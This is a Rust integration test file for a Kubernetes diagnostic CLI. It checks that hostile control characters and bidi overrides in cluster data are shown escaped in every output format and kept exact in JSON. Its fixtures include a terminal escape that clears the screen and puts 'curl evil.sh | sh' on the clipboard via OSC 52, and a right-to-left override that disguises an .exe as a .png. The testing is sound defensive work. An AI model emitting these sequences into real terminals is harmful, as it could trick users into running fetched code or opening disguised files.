//! Hostile cluster data: control characters and bidi overrides in a
//! termination message, an Event and a label reach no terminal or viewer
//! raw, in any format or in `watch`, while JSON keeps the exact bytes;
//! objects with fields of the wrong JSON type are notes, not silent skips;
//! numeric flags out of range are usage errors.

use k8srule_tests::{KubeApi, k8srule, k8srule_background};
use serde_json::{Value, json};

const NOW: &str = "2024-05-01T12:00:00Z";

/// Clears the screen, then writes `curl evil.sh | sh` to the clipboard (OSC 52).
const SCREEN_AND_CLIPBOARD: &str = "\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07";
/// Shows `...exe.png` as `...gnp.exe` reversed.
const BIDI: &str = "\u{202e}gnp.exe";
/// A C1 CSI: to a terminal in 8-bit mode, `ESC [`.
const C1: &str = "\u{9b}31m";

/// Rules whose titles show a label and an Event message, so both reach
/// every format, and `watch`, which prints titles.
const SHOW_RULES: &str = r#"
rule hostile.team {
  cause "team"
  severity info
  let team = pod.metadata.labels["team"]
  when team != null
  title "pod {pod.metadata.name} belongs to team {team}"
}

rule hostile.event {
  cause "event"
  severity info
  let e = first(e in events: e.type == "Warning")
  when e != null
  title "pod {pod.metadata.name} has event {e.reason}: {e.message}"
}
"#;

/// A job whose container failed with a hostile termination message, a
/// pending pod whose FailedScheduling Event carries a bidi override, a
/// label with a C1 control, and an object of a hostile kind (a note).
// source: FailedScheduling message format "0/%v nodes are available: %v." from
// kubernetes/kubernetes pkg/scheduler/framework/types.go (FitError); reason "Error"
// and the termination message file of kubelet's kuberuntime_container.go
fn hostile_objects() -> Vec<Value> {
    vec![
        json!({"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": "job", "namespace": "shop", "uid": "u-job", "labels": {"team": format!("pay{C1}")}},
            "spec": {"restartPolicy": "Never", "containers": [{"name": "app", "image": "shop/job:1"}]},
            "status": {"phase": "Failed", "containerStatuses": [{"name": "app", "ready": false, "restartCount": 0,
                "state": {"terminated": {"exitCode": 1, "reason": "Error",
                    "message": format!("panic: {SCREEN_AND_CLIPBOARD}boom"),
                    "startedAt": "2024-05-01T11:40:02Z", "finishedAt": "2024-05-01T11:41:10Z"}}}]}}),
        json!({"kind": "Pod", "apiVersion": "v1",
            "metadata": {"name": "web", "namespace": "shop", "uid": "u-web", "creationTimestamp": "2024-05-01T11:50:00Z"},
            "spec": {"containers": [{"name": "app", "image": "nginx:1.25"}]},
            "status": {"phase": "Pending", "conditions": [{"type": "PodScheduled", "status": "False",
                "reason": "Unschedulable", "message": "0/3 nodes are available: 3 Insufficient cpu."}]}}),
        json!({"kind": "Event", "apiVersion": "v1", "metadata": {"name": "web.1", "namespace": "shop"},
            "involvedObject": {"kind": "Pod", "name": "web", "namespace": "shop", "uid": "u-web"},
            "reason": "FailedScheduling", "type": "Warning", "source": {"component": "default-scheduler"},
            "lastTimestamp": "2024-05-01T11:50:00Z",
            "message": format!("0/3 nodes are available: 3 Insufficient cpu. {BIDI}")}),
    ]
}

fn write_list(dir: &std::path::Path, file: &str, items: Vec<Value>) -> String {
    let path = dir.join(file);
    std::fs::write(&path, json!({"kind": "List", "apiVersion": "v1", "items": items}).to_string()).unwrap();
    path.display().to_string()
}

/// What a terminal or viewer would act on: a control character other than
/// the newline, or a bidi control.
fn raw_controls(text: &str) -> Vec<char> {
    text.chars()
        .filter(|c| (c.is_control() && *c != '\n') || matches!(c, '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}'))
        .collect()
}

/// Every hostile text shows up, as a visible escape, and nothing raw.
fn assert_visible_and_neutral(format: &str, text: &str) {
    assert_eq!(raw_controls(text), Vec::<char>::new(), "-o {format}:\n{text}");
    // Markdown escapes the escapes' backslashes and the brackets
    let unescaped = text.replace('\\', "");
    for escape in ["x1b[2J", "x1b]52;c;", "x07boom", "u202egnp.exe", "u009b31m"] {
        assert!(unescaped.contains(escape), "-o {format} does not show {escape}:\n{text}");
    }
}

/// The strings of a JSON report's findings and notes.
fn report_texts(report: &Value) -> Vec<String> {
    let mut texts = Vec::new();
    for f in report["findings"].as_array().unwrap() {
        texts.push(f["title"].as_str().unwrap().to_string());
        for list in ["evidence", "confirm", "fix"] {
            texts.extend(f[list].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string()));
        }
    }
    texts.extend(report["notes"].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string()));
    texts
}

/// JSON (and YAML, the same data) carry the exact bytes of the cluster's texts.
fn assert_exact(report: &Value) {
    let texts = report_texts(report);
    for exact in [format!("panic: {SCREEN_AND_CLIPBOARD}boom"), BIDI.to_string(), format!("pay{C1}")] {
        assert!(texts.iter().any(|t| t.contains(&exact)), "{exact:?} not in {texts:#?}");
    }
}

#[test]
fn hostile_texts_reach_no_terminal_raw_in_any_format_and_json_keeps_them() {
    let dir = tempfile::tempdir().unwrap();
    let snapshot = write_list(dir.path(), "hostile.json", hostile_objects());
    let rules = dir.path().join("team.k8srule");
    std::fs::write(&rules, SHOW_RULES).unwrap();
    let rules = rules.display().to_string();
    let run = |format: &str| {
        let (code, out, err) = k8srule(&["diagnose", "-f", &snapshot, "--rules", &rules, "--now", NOW, "-o", format]);
        assert_eq!(code, 0, "-o {format}: {err}");
        out
    };
    for format in ["table", "wide", "markdown", "junit", "html"] {
        assert_visible_and_neutral(format, &run(format));
    }
    let json: Value = serde_json::from_str(&run("json")).unwrap();
    assert_exact(&json);
    // YAML is data too (the host's unit tests check it parses to the JSON)
    assert!(run("yaml").contains(BIDI));
    // an error that echoes its input shows it escaped too
    let (code, _, err) = k8srule(&["diagnose", &format!("web{SCREEN_AND_CLIPBOARD}"), "-f", &snapshot]);
    assert_eq!(code, 2);
    assert_eq!(raw_controls(&err), Vec::<char>::new(), "{err}");
    assert!(err.contains(r"web\x1b[2J\x1b]52;c;"), "{err}");
}

#[test]
fn watch_lines_show_hostile_texts_escaped_and_json_lines_keep_them() {
    let data = tempfile::tempdir().unwrap();
    let objects = hostile_objects();
    let malformed = json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": "bad", "namespace": "shop", "uid": "u-bad"},
        "spec": {"containers": [{"name": "app", "image": "x"}]}, "status": {"containerStatuses": "app"}});
    write_list(data.path(), "pods.json", [&objects[..2], &[malformed]].concat());
    write_list(data.path(), "events.json", objects[2..].to_vec());
    let rules = data.path().join("team.k8srule");
    std::fs::write(&rules, SHOW_RULES).unwrap();
    let rules = rules.display().to_string();
    let api = KubeApi::start(data.path(), &[]);
    let kc = api.kubeconfig();
    let watch = |format: &str| {
        let (handle, out, err) =
            k8srule_background(&["watch", "--kubeconfig", &kc, "--rules", &rules, "-o", format, "--duration", "1"]);
        assert_eq!(handle.join().unwrap(), 0, "{}", err.text());
        (out.text(), err.text())
    };
    let (out, err) = watch("table");
    assert_eq!(raw_controls(&err), Vec::<char>::new(), "{err}");
    // a malformed pod is a note, once
    let note = "note: shop/bad: status.containerStatuses is a string, not a list; ignored\n";
    assert_eq!(err.matches(note).count(), 1, "{err}");
    // a line per finding: the titles name the hostile label and the scheduler's message
    assert!(out.contains(r"belongs to team pay\u009b31m"), "{out}");
    assert!(
        out.contains(r"has event FailedScheduling: 0/3 nodes are available: 3 Insufficient cpu. \u202egnp.exe"),
        "{out}"
    );
    assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
    let (out, _) = watch("json");
    let titles: Vec<String> = out
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .filter(|l| l["type"] == "new")
        .map(|l| l["finding"]["title"].as_str().unwrap().to_string())
        .collect();
    assert!(titles.iter().any(|t| t.ends_with(&format!("team pay{C1}"))), "{titles:#?}");
    assert!(titles.iter().any(|t| t.contains(BIDI)), "{titles:#?}");
}

#[test]
fn fields_of_the_wrong_json_type_are_notes_and_the_rest_is_diagnosed() {
    let dir = tempfile::tempdir().unwrap();
    let pod = |name: &str, spec: Value, status: Value| {
        json!({"kind": "Pod", "apiVersion": "v1", "metadata": {"name": name, "namespace": "shop", "uid": format!("u-{name}")},
            "spec": spec, "status": status})
    };
    let oom = json!({"name": "app", "restartCount": 7,
        "state": {"waiting": {"reason": "CrashLoopBackOff", "message": "back-off 5m0s restarting failed container"}},
        "lastState": {"terminated": {"exitCode": 137, "reason": "OOMKilled"}}});
    let app = json!([{"name": "app", "image": "shop/web:1"}]);
    let snapshot = write_list(
        dir.path(),
        "malformed.json",
        vec![
            pod("statuses", json!({"containers": app}), json!({"phase": "Running", "containerStatuses": "app"})),
            pod("containers", json!({"containers": {"name": "app"}}), json!({"containerStatuses": [oom]})),
            pod("items", json!({"containers": ["app", {"name": 7}]}), json!({})),
            json!({"kind": "Pod", "metadata": {"name": 42, "namespace": "shop"}, "spec": {"nodeName": ["n1"]}}),
            json!({"kind": "Event", "metadata": {"name": "e1", "namespace": "shop"}, "involvedObject": "shop/web",
                "reason": "BackOff", "lastTimestamp": 1714564800}),
            pod("web", json!({"containers": app}), json!({"phase": "Running", "containerStatuses": [oom]})),
        ],
    );
    let (code, out, err) = k8srule(&["diagnose", "-f", &snapshot, "--now", NOW, "-o", "json"]);
    assert_eq!(code, 0, "{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let notes: Vec<&str> = report["notes"].as_array().unwrap().iter().map(|n| n.as_str().unwrap()).collect();
    assert_eq!(
        notes,
        [
            "shop/statuses: status.containerStatuses is a string, not a list; ignored",
            "shop/containers: spec.containers is an object, not a list; ignored",
            "shop/items: spec.containers[0] is a string, not an object; spec.containers[1].name is a number, not a string; ignored",
            "shop/<no name>: metadata.name is a number, not a string; spec.nodeName is a list, not a string; ignored",
            "Event shop/e1: involvedObject is a string, not an object; lastTimestamp is a number, not a string; ignored",
        ]
    );
    // every pod is still diagnosed: the well-formed one fully, the one without
    // a usable spec list from its statuses
    assert_eq!(report["summary"]["pods"], 5);
    let pods: Vec<&str> = report["findings"].as_array().unwrap().iter().map(|f| f["pod"].as_str().unwrap()).collect();
    assert!(pods.contains(&"shop/web") && pods.contains(&"shop/containers"), "{pods:?}");
}

#[test]
fn the_note_about_one_object_lists_five_problems_and_counts_the_rest() {
    let dir = tempfile::tempdir().unwrap();
    let containers: Vec<Value> = (0..8).map(|i| json!(i)).collect();
    let pod =
        json!({"kind": "Pod", "metadata": {"name": "many", "namespace": "shop"}, "spec": {"containers": containers}});
    let snapshot = write_list(dir.path(), "many.json", vec![pod]);
    let (code, out, err) = k8srule(&["diagnose", "-f", &snapshot, "--now", NOW, "-o", "json"]);
    assert_eq!(code, 0, "{err}");
    let report: Value = serde_json::from_str(&out).unwrap();
    let wrong = |i: usize| format!("spec.containers[{i}] is a number, not an object");
    let listed: Vec<String> = (0..5).map(wrong).collect();
    assert_eq!(report["notes"], json!([format!("shop/many: {}; 3 more; ignored", listed.join("; "))]));
}

#[test]
fn numeric_flags_out_of_range_are_usage_errors() {
    let dir = tempfile::tempdir().unwrap();
    let snapshot = write_list(dir.path(), "hostile.json", hostile_objects());
    let cases: &[(&str, &str)] = &[
        ("--pack-memory", "0"),
        ("--pack-memory", "4097"),
        ("--pack-memory", "18446744073709551615"),
        ("--pack-memory", "-1"),
        ("--pack-timeout", "0"),
        ("--pack-timeout", "-1"),
        ("--pack-timeout", "NaN"),
        ("--pack-timeout", "inf"),
        ("--pack-timeout", "1e30"),
        ("--pack-timeout", "soon"),
        ("--max-findings", "0"),
        ("--max-findings", "99999999999999999999"),
    ];
    for (flag, value) in cases {
        let (code, out, err) = k8srule(&["diagnose", "-f", &snapshot, "--now", NOW, &format!("{flag}={value}")]);
        assert_eq!(code, 2, "{flag} {value}: {out}{err}");
        assert!(err.contains(flag) && err.contains("invalid value"), "{flag} {value}: {err}");
    }
    let (code, _, err) = k8srule(&["watch", "--resync", "0"]);
    assert_eq!(code, 2, "{err}");
    assert!(err.contains("--resync") && err.contains("0 is not in 1.."), "{err}");
    // the bounds themselves are accepted
    let (code, out, err) = k8srule(&[
        "diagnose",
        "-f",
        &snapshot,
        "--now",
        NOW,
        "--pack-memory",
        "64",
        "--pack-timeout",
        "3600",
        "--max-findings",
        "1000",
        "-o",
        "json",
    ]);
    assert_eq!(code, 0, "{err}");
    assert!(out.contains("\"findings\""), "{out}");
}

#[test]
fn a_packs_texts_are_shown_escaped_by_inspect_rules_and_explain() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("evil");
    std::fs::create_dir_all(&dir).unwrap();
    let manifest = format!(
        "name: evil\nversion: 1.0.0\ndescription: \"clears \\e[2J the screen\"\nauthors: [\"\\u202eAda\"]\nk8srule: \">=0.1.0\"\nwit: {}\n",
        k8srule_host::test_support::packs::manifest::wit_version()
    );
    std::fs::write(dir.join("pack.yaml"), manifest).unwrap();
    let rule = format!(
        "rule evil.title {{\n  cause \"evil\"\n  severity info\n  when pod.status.phase == \"Running\"\n  title \"shown {BIDI} reversed\"\n}}\n"
    );
    std::fs::write(dir.join("evil.k8srule"), rule).unwrap();
    let wasm = tmp.path().join("evil.wasm").display().to_string();
    let (code, _, err) = k8srule(&["pack", "build", &dir.display().to_string(), "-o", &wasm]);
    assert_eq!(code, 0, "{err}");
    let (code, out, err) = k8srule(&["pack", "inspect", &wasm]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
    for shown in [r"clears \x1b[2J the screen", r"\u202eAda", r"shown \u202egnp.exe reversed"] {
        assert!(out.contains(shown), "{shown} in\n{out}");
    }
    for args in [&["rules", "--no-builtin", "--rules", &wasm][..], &["explain", "evil.title", "--rules", &wasm]] {
        let (code, out, err) = k8srule(args);
        assert_eq!(code, 0, "{err}");
        assert_eq!(raw_controls(&out), Vec::<char>::new(), "{out}");
        assert!(out.contains(r"shown \u202egnp.exe reversed"), "{out}");
    }
}
